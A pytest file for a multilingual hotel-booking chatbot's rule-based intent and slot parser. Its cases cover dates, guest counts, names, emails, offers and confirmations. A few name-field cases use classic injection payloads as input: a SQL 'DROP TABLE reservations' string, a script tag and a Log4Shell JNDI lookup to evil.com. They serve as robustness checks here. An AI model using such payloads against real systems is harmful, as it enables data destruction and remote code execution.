"""The answer to a question: the same words mean another thing after another question."""

from datetime import date

import pytest

from conversations.nlu.rules import Rules
from conversations.types import Meaning

TODAY = date(2026, 11, 11)  # a Wednesday


def understand(text: str, expecting: str, language: str = "es") -> Meaning:
    return Rules().understand(text, language=language, expecting=expecting, today=TODAY)


# question, language, text, intent, slots that must be there
ANSWERS = [
    ("arrival", "es", "mañana", "inform", {"arrival": "2026-11-12"}),
    ("arrival", "es", "15/12", "inform", {"arrival": "2026-12-15"}),
    ("arrival", "es", "para el 15/12 por favor", "inform", {"arrival": "2026-12-15"}),
    ("arrival", "es", "del 15 al 18 de diciembre", "inform", {"departure": "2026-12-18"}),
    ("arrival", "es", "llegamos el viernes", "inform", {"arrival": "2026-11-13"}),
    ("arrival", "en", "next friday", "inform", {"arrival": "2026-11-13"}),
    ("arrival", "pt", "sexta", "inform", {"arrival": "2026-11-13"}),
    ("arrival", "es", "el 22", "inform", {"day": 22}),
    ("departure", "es", "el 22", "inform", {"day": 22}),
    ("departure", "es", "22", "inform", {"day": 22}),
    ("departure", "es", "18/12", "inform", {"departure": "2026-12-18"}),
    ("departure", "es", "3 noches", "inform", {"nights": 3}),
    ("departure", "en", "the 22nd", "inform", {"day": 22}),
    ("departure", "en", "until the 22nd", "inform", {"day": 22}),
    ("departure", "pt", "até dia 22", "inform", {"day": 22}),
    ("departure", "es", "el domingo", "inform", {"departure": "2026-11-15"}),
    ("departure", "es", "nos vamos el 18/12", "inform", {"departure": "2026-12-18"}),
    ("adults", "es", "2", "inform", {"adults": 2}),
    ("adults", "es", "dos", "inform", {"adults": 2}),
    ("adults", "es", "somos 3 y un bebé", "inform", {"adults": 3, "children": 1}),
    ("adults", "es", "2 adultos y 2 niños", "inform", {"adults": 2, "children": 2}),
    ("adults", "es", "just me", "inform", {"adults": 1}),
    ("adults", "es", "two adults", "inform", {"adults": 2}),
    ("adults", "pt", "duas", "inform", {"adults": 2}),
    ("adults", "pt", "só eu", "inform", {"adults": 1}),
    ("adults", "es", "mi pareja y yo", "inform", {"adults": 2}),
    ("adults", "es", "4 personas", "inform", {"adults": 4}),
    ("adults", "es", "ok, somos 2", "inform", {"adults": 2}),
    ("adults", "es", "3 y un bebé", "inform", {"adults": 3, "children": 1}),
    ("name", "es", "Ana Pérez", "inform", {"name": "Ana Pérez"}),
    ("name", "es", "soy Ana Pérez", "inform", {"name": "Ana Pérez"}),
    ("name", "es", "me llamo Juan", "inform", {"name": "Juan"}),
    ("name", "es", "my name is John O'Neil", "inform", {"name": "John O'Neil"}),
    ("name", "es", "meu nome é João da Silva", "inform", {"name": "João da Silva"}),
    ("name", "es", "Robert'); DROP TABLE reservations; --", "inform", {}),
    ("name", "es", "<script>alert(1)</script>", "inform", {}),
    ("name", "es", "${jndi:ldap://evil.com/a}", "inform", {}),
    ("name", "es", "May June", "inform", {}),
    ("name", "es", "Consuelo Domingo", "inform", {}),
    ("name", "es", "cancelar", "cancel_reservation", {}),
    ("name", "es", "quiero hablar con una persona", "talk_to_person", {}),
    ("name", "es", "no", "deny", {}),
    ("name", "es", "no gracias", "deny", {}),
    ("name", "es", "tienen piscina?", "pool", {}),
    ("email", "es", "ana@example.com", "inform", {"email": "ana@example.com"}),
    ("email", "es", "mi mail es Ana@Example.com.", "inform", {"email": "ana@example.com"}),
    ("email", "es", "no", "deny", {}),
    ("email", "es", "no tengo", "deny", {}),
    ("email", "es", "sin mail", "deny", {}),
    ("email", "es", "skip", "deny", {}),
    ("email", "es", "omitir", "deny", {}),
    ("email", "es", "pular", "deny", {}),
    ("email", "es", "não tenho", "deny", {}),
    ("email", "es", "I don't have one", "deny", {}),
    ("offer", "es", "2", "inform", {"ordinal": 2}),
    ("offer", "es", "la segunda", "inform", {"ordinal": 2}),
    ("offer", "es", "the first one", "inform", {"ordinal": 1}),
    ("offer", "es", "la doble", "inform", {"room_type": "double"}),
    ("offer", "es", "a suíte", "inform", {"room_type": "suite"}),
    ("offer", "es", "opción 3", "inform", {"ordinal": 3}),
    ("offer", "es", "quiero la doble", "inform", {"room_type": "double"}),
    ("offer", "pt", "a segunda", "inform", {"ordinal": 2}),
    ("offer", "es", "uno", "inform", {"ordinal": 1}),
    ("menu", "es", "1", "inform", {"ordinal": 1}),
    ("menu", "es", "9", "inform", {"ordinal": 9}),
    ("menu", "es", "1️⃣", "inform", {"ordinal": 1}),
    ("confirm", "es", "sí", "affirm", {}),
    ("confirm", "es", "si, reservar", "affirm", {}),
    ("confirm", "es", "sí confirmo la reserva", "affirm", {}),
    ("confirm", "es", "no", "deny", {}),
    ("confirm", "es", "cancelar", "deny", {}),
    ("confirm", "es", "no, mejor no", "deny", {}),
    ("confirm", "es", "ok gracias", "affirm", {}),
    ("confirm", "es", "yes, book it", "affirm", {}),
    ("confirm_cancel", "es", "sí", "affirm", {}),
    ("confirm_cancel", "es", "si, cancelar", "affirm", {}),
    ("confirm_cancel", "es", "yes, cancel it", "affirm", {}),
    ("confirm_cancel", "es", "no, no la cancelen", "deny", {}),
    ("confirm_cancel", "es", "no", "deny", {}),
    ("confirm_cancel", "es", "confirmo la cancelación", "affirm", {}),
    ("code", "es", "RES-ABCD1234", "inform", {"code": "RES-ABCD1234"}),
    ("code", "es", "abcd1234", "inform", {"code": "RES-ABCD1234"}),
    ("departure", "es", "dos noches", "inform", {"nights": 2}),
    ("departure", "es", "el 22 de diciembre", "inform", {"departure": "2026-12-22"}),
    ("departure", "es", "hasta el 22", "inform", {"day": 22}),
    ("departure", "es", "veintidós", "inform", {"day": 22}),
    ("departure", "es", "me voy el 22", "inform", {"day": 22}),
    ("departure", "es", "una semana", "inform", {"nights": 7}),
    ("departure", "es", "5 nights", "inform", {"nights": 5}),
    ("adults", "es", "somos cuatro", "inform", {"adults": 4}),
    ("adults", "es", "2 grandes y 1 nene", "inform", {"adults": 2, "children": 1}),
    ("adults", "es", "we are 3", "inform", {"adults": 3}),
    ("adults", "es", "seremos 5 pessoas", "inform", {"adults": 5}),
    ("adults", "es", "dos adultos y un niño", "inform", {"adults": 2, "children": 1}),
    ("adults", "es", "yo solo", "inform", {"adults": 1}),
    ("adults", "es", "2 persons", "inform", {"adults": 2}),
    ("adults", "es", "para 3", "inform", {"adults": 3}),
    ("adults", "es", "um casal", "inform", {"adults": 2}),
    ("adults", "es", "uno", "inform", {"adults": 1}),
    ("children", "es", "ninguno", "inform", {}),
    ("children", "es", "2", "inform", {"children": 2}),
    ("nights", "es", "3", "inform", {"nights": 3}),
    ("nights", "es", "tres", "inform", {"nights": 3}),
    ("room_type", "es", "doble", "inform", {"room_type": "double"}),
    ("room_type", "es", "una cama", "inform", {"room_type": "dorm"}),
    ("room_type", "es", "quarto de casal", "inform", {"room_type": "double"}),
    ("room_type", "es", "solteiro", "inform", {"room_type": "single"}),
    ("offer", "es", "la suite por favor", "inform", {"room_type": "suite"}),
    ("offer", "es", "a primeira", "inform", {"ordinal": 1}),
    ("offer", "es", "the second", "inform", {"ordinal": 2}),
    ("offer", "es", "number 2", "inform", {"ordinal": 2}),
    ("offer", "es", "la 3", "inform", {"ordinal": 3}),
    ("offer", "es", "o quarto duplo", "inform", {"room_type": "double"}),
    ("offer", "es", "prefiero la doble", "inform", {"room_type": "double"}),
    ("offer", "es", "quiero la primera opción", "inform", {"ordinal": 1}),
    ("offer", "es", "ninguna", "deny", {}),
    ("offer", "es", "cuánto sale con desayuno?", "ask_price", {}),
    ("offer", "es", "y hay lugar del 5 al 7 de enero?", "check_availability", {}),
    ("name", "es", "Li", "inform", {}),
    ("name", "es", "João", "inform", {}),
    ("name", "es", "josé maría garcía lópez", "inform", {"name": "josé maría garcía lópez"}),
    ("name", "es", "  Ana    María   ", "inform", {"name": "Ana María"}),
    ("name", "es", "O nome é Pedro Alves", "inform", {}),
    ("name", "es", "I'm Kate Brown", "inform", {"name": "Kate Brown"}),
    ("name", "es", "a nombre de Luis Soto", "inform", {"name": "Luis Soto"}),
    ("name", "es", "Mercedes Plaza", "inform", {}),
    ("name", "es", "Hope Parker", "inform", {}),
    ("name", "es", "Augusto Reyes", "inform", {}),
    ("name", "es", "Bárbara Claro", "inform", {}),
    ("name", "es", "Guadalupe Paz de la Cruz", "inform", {}),
    ("name", "es", "what is the wifi password?", "wifi", {}),
    ("name", "es", "quiero cancelar", "cancel_reservation", {}),
    ("email", "es", "para qué lo necesitan? no entiendo", "help", {}),
    (
        "email",
        "es",
        "my email is john.smith+hotel@mail.example.co.uk",
        "inform",
        {"email": "john.smith+hotel@mail.example.co.uk"},
    ),
    ("confirm", "es", "dale", "affirm", {}),
    ("confirm", "es", "sí, quiero reservar", "affirm", {}),
    ("confirm", "es", "confirmo", "affirm", {}),
    ("confirm", "es", "yes please book it", "affirm", {}),
    ("confirm", "es", "pode confirmar", "affirm", {}),
    ("confirm", "es", "ok", "affirm", {}),
    ("confirm", "es", "👍", "affirm", {}),
    ("confirm", "es", "no quiero", "deny", {}),
    ("confirm", "es", "mejor no, gracias", "deny", {}),
    ("confirm", "es", "no quiero reservar", "deny", {}),
    ("confirm", "es", "cancel", "deny", {}),
    ("confirm", "es", "cuánto cuesta?", "ask_price", {}),
    ("confirm_cancel", "es", "mejor no", "deny", {}),
    ("confirm_cancel", "es", "no quiero cancelar", "deny", {}),
    ("confirm_cancel", "es", "cancelar", "affirm", {}),
    ("confirm_cancel", "es", "sim, pode cancelar", "affirm", {}),
    ("confirm_cancel", "es", "sí, quiero cancelarla", "affirm", {}),
    ("confirm_cancel", "es", "yes", "affirm", {}),
    ("confirm_cancel", "es", "não", "deny", {}),
    ("offer", "es", "la opción 2 por favor", "inform", {"ordinal": 2}),
    ("arrival", "es", "llegaríamos el 3 de enero", "inform", {"arrival": "2027-01-03"}),
    ("arrival", "es", "I think around dec 28", "inform", {"arrival": "2026-12-28"}),
    (
        "arrival",
        "es",
        "este viernes y nos vamos el domingo",
        "inform",
        {"arrival": "2026-11-13", "departure": "2026-11-15"},
    ),
    ("arrival", "pt", "no dia 15 de janeiro", "inform", {"arrival": "2027-01-15"}),
    ("departure", "es", "el 5 de enero a la mañana", "inform", {"departure": "2027-01-05"}),
    ("departure", "es", "nos quedamos 4 noches", "inform", {"nights": 4}),
    ("departure", "en", "leaving on the 9th", "inform", {"day": 9}),
    ("departure", "pt", "dia 22", "inform", {"day": 22}),
    ("adults", "es", "vamos a ser 5", "inform", {"adults": 5}),
    ("adults", "es", "mi señora y yo", "inform", {"adults": 2}),
    ("adults", "es", "3 adultos nada más", "inform", {"adults": 3}),
    ("adults", "en", "there's two of us", "inform", {"adults": 2}),
    ("adults", "en", "just the two of us", "inform", {"adults": 2}),
    ("adults", "pt", "eu e meu marido", "inform", {"adults": 2}),
    ("adults", "pt", "somos 2 adultos e um bebê", "inform", {"adults": 2, "children": 1}),
    ("name", "pt", "Meu nome é Beatriz Souza", "inform", {"name": "Beatriz Souza"}),
    ("name", "es", "Soy yo, Martín Gómez", "inform", {}),
    ("offer", "es", "me quedo con la primera", "inform", {"ordinal": 1}),
    ("offer", "en", "I'll take the second one", "inform", {"ordinal": 2}),
    ("offer", "en", "the suite", "inform", {"room_type": "suite"}),
    ("offer", "pt", "quero a segunda opção", "inform", {"ordinal": 2}),
    ("offer", "pt", "fico com o duplo", "inform", {"room_type": "double"}),
    ("menu", "es", "3", "inform", {"ordinal": 3}),
    ("email", "es", "no uso correo", "deny", {}),
    ("email", "es", "prefiero no darlo", "deny", {}),
    ("email", "en", "skip it", "deny", {}),
    ("email", "pt", "não tenho email", "deny", {}),
    ("confirm", "es", "sí, por favor confirmala", "affirm", {}),
    ("confirm", "en", "yes, that's correct", "affirm", {}),
    ("confirm", "pt", "isso, pode reservar", "affirm", {}),
    ("confirm", "en", "no, that's wrong", "deny", {}),
    ("confirm", "es", "no, espera", "deny", {}),
    ("confirm_cancel", "es", "sí, cancelala por favor", "affirm", {}),
    ("confirm", "es", "quiero hablar con alguien", "talk_to_person", {}),
]


@pytest.mark.parametrize(("expecting", "language", "text", "intent", "slots"), ANSWERS)
def test_understand_answer(
    expecting: str, language: str, text: str, intent: str, slots: dict[str, object]
) -> None:
    meaning = understand(text, expecting, language)
    assert meaning.intent == intent, meaning.intents
    assert {key: meaning.slots.get(key) for key in slots} == slots


@pytest.mark.parametrize(
    "name",
    [
        "Robert'); DROP TABLE reservations; --",
        "<script>alert(1)</script>",
        "${jndi:ldap://x.example/a}",
    ],
)
def test_name_keeps_its_signs(name: str) -> None:
    meaning = understand(name, "name")
    assert (meaning.intent, meaning.confidence, meaning.slots["name"]) == ("inform", 0.9, name)


@pytest.mark.parametrize("text", ["", "   ", "1234", "🎉", "x" * 101])
def test_name_without_letters_or_too_long_is_none(text: str) -> None:
    assert "name" not in understand(text, "name").slots


@pytest.mark.parametrize("text", ["0", "-1", "51", "1000"])
def test_count_out_of_range_is_no_answer(text: str) -> None:
    meaning = understand(text, "adults")
    assert "adults" not in meaning.slots
    assert meaning.intent == "out_of_scope"


def test_answer_keeps_other_intents_weaker() -> None:
    meaning = understand("hola, somos 2", "adults")
    assert meaning.intents[0] == ("inform", 0.9)
    assert all(confidence <= 0.7 for _, confidence in meaning.intents[1:])
